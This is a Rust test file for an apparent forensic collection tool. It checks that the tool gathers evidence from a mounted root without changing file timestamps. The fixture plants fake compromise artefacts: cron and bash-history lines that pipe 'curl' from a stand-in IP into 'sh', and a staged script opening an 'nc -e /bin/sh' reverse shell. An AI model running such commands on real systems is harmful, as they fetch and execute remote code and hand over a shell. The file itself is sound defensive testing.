//! Evidence left as it was: on a tmpfs mounted `strictatime` (every read would update the
//! access time), a collection of an offline root changes no access, modification or change
//! time of any file it read or directory it walked. Needs root (to mount, and because
//! `O_NOATIME` is allowed only to a file's owner or root): otherwise it says SKIPPED. What a
//! run that is not root cannot protect is counted in the manifest (`atime_unprotected`).

use crate::harness::{collect, irsnap};
use std::fs::FileTimes;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime};

struct Mount(PathBuf);

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

fn strictatime_tmpfs(dir: &Path) -> Option<Mount> {
    let ok = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "strictatime,size=32m", "tmpfs"])
        .arg(dir)
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    ok.then(|| Mount(dir.to_path_buf()))
}

/// (atime, mtime, ctime) in nanoseconds, from lstat (which changes none of them).
fn times(p: &Path) -> (i128, i128, i128) {
    let m = std::fs::symlink_metadata(p).unwrap();
    let ns = |s: i64, n: i64| i128::from(s) * 1_000_000_000 + i128::from(n);
    (
        ns(m.atime(), m.atime_nsec()),
        ns(m.mtime(), m.mtime_nsec()),
        ns(m.ctime(), m.ctime_nsec()),
    )
}

#[test]
fn a_collection_changes_no_access_time_on_a_strictatime_mount() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let Some(_mount) = strictatime_tmpfs(&root) else {
        eprintln!("SKIPPED: cannot mount a strictatime tmpfs (not root)");
        return;
    };
    let files: &[(&str, &[u8])] = &[
        (
            "etc/passwd",
            b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        ),
        ("etc/crontab", b"*/5 * * * * root /tmp/.x/stage.sh\n"),
        ("etc/cron.d/job", b"@reboot root /var/tmp/x.py\n"),
        (
            "var/spool/cron/crontabs/alice",
            b"* * * * * curl -s http://203.0.113.9 | sh\n",
        ),
        (
            "home/alice/.bash_history",
            b"ls\ncurl -s http://203.0.113.9/p.sh | sh\n",
        ),
        ("root/.bash_history", b"id\n"),
        ("tmp/a.sh", b"#!/bin/sh\nid\n"),
        (
            "tmp/.x/stage.sh",
            b"#!/bin/sh\nnc 203.0.113.9 4444 -e /bin/sh\n",
        ),
        ("tmp/sub/payload", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
        ("tmp/notes.txt", b"nothing here\n"),
        ("var/tmp/x.py", b"import os\nos.system('id')\n"),
    ];
    // Access times far in the past, so any update shows.
    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000_000);
    let mut paths = vec![root.clone()];
    for (rel, data) in files {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, data).unwrap();
        paths.push(p);
    }
    for d in [
        "etc",
        "etc/cron.d",
        "var",
        "var/spool",
        "var/spool/cron",
        "var/spool/cron/crontabs",
        "var/tmp",
        "home",
        "home/alice",
        "root",
        "tmp",
        "tmp/.x",
        "tmp/sub",
    ] {
        paths.push(root.join(d));
    }

    for p in &paths {
        std::fs::File::open(p)
            .unwrap()
            .set_times(FileTimes::new().set_accessed(old))
            .unwrap();
    }
    // The control: on this mount a plain read does update the access time.
    let control = root.join("control");
    std::fs::write(&control, b"x").unwrap();
    std::fs::File::open(&control)
        .unwrap()
        .set_times(FileTimes::new().set_accessed(old))
        .unwrap();
    let c0 = times(&control);
    std::fs::read(&control).unwrap();
    assert_ne!(
        times(&control).0,
        c0.0,
        "strictatime does not update atime here"
    );
    let before: Vec<_> = paths.iter().map(|p| times(p)).collect();

    let out = work.path().join("out");
    let (run, archive) = collect(&out, &["--root", root.to_str().unwrap()]);
    let mut archive = archive.unwrap_or_else(|| panic!("{}{}", run.stdout, run.stderr));
    // It did read them: the histories and scripts are in the archive.
    let names = archive.names();
    assert!(
        names.iter().any(|n| n.ends_with("tmp/.x/stage.sh")),
        "{names:?}"
    );
    assert!(
        names.iter().any(|n| n.ends_with("alice/.bash_history")),
        "{names:?}"
    );
    let changed: Vec<String> = paths
        .iter()
        .zip(&before)
        .filter(|(p, b)| times(p) != **b)
        .map(|(p, b)| format!("{}: {b:?} -> {:?}", p.display(), times(p)))
        .collect();
    assert!(changed.is_empty(), "times changed:\n{}", changed.join("\n"));
    // As root, every open was protected: the manifest has nothing to confess.
    assert!(archive.manifest()["atime_unprotected"].is_null());
    assert_eq!(irsnap(&["verify", archive.path.to_str().unwrap()]).code, 0);
}

#[test]
fn a_run_that_is_not_root_says_how_many_access_times_it_could_not_protect() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let Some(_mount) = strictatime_tmpfs(&root) else {
        eprintln!("SKIPPED: cannot mount a strictatime tmpfs (not root)");
        return;
    };
    let have_setpriv = Command::new("setpriv")
        .arg("--version")
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !have_setpriv {
        eprintln!("SKIPPED: no setpriv to run as another user");
        return;
    }
    // Root's files, readable by all: `nobody` reads them, but may not use O_NOATIME.
    std::fs::create_dir_all(root.join("tmp")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/passwd"), b"root:x:0:0:root:/root:/bin/sh\n").unwrap();
    let script = root.join("tmp/a.sh");
    std::fs::write(&script, b"#!/bin/sh\nid\n").unwrap();
    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000_000);
    std::fs::File::open(&script)
        .unwrap()
        .set_times(FileTimes::new().set_accessed(old))
        .unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let open = |p: &Path| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
    };
    open(work.path());
    open(&out);
    let o = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(crate::harness::bin())
        .args(["collect", "--json", "--profile", "triage", "--root"])
        .arg(&root)
        .arg("-o")
        .arg(&out)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    let stderr = String::from_utf8_lossy(&o.stderr);
    // The test binary may live where `nobody` cannot reach it (a checkout under /root).
    if stdout.is_empty() && (stderr.contains("Permission denied") || o.status.code() == Some(127)) {
        eprintln!(
            "SKIPPED: nobody cannot run {}: {stderr}",
            crate::harness::bin().display()
        );
        return;
    }
    let v: serde_json::Value =
        serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    let mut archive = crate::harness::Archive::open(Path::new(v["archive"].as_str().unwrap()));
    // The limit, honestly: the script's access time changed, and the manifest says how
    // many files and directories may have had theirs changed.
    assert!(times(&script).0 > 1_000_000_000 * 1_000_000_000_i128);
    let n = archive.manifest()["atime_unprotected"]
        .as_u64()
        .unwrap_or(0);
    assert!(n >= 1, "{}", archive.manifest());
    let log = String::from_utf8(archive.member("collection.log")).unwrap();
    assert!(log.contains("without O_NOATIME"), "{log}");
}
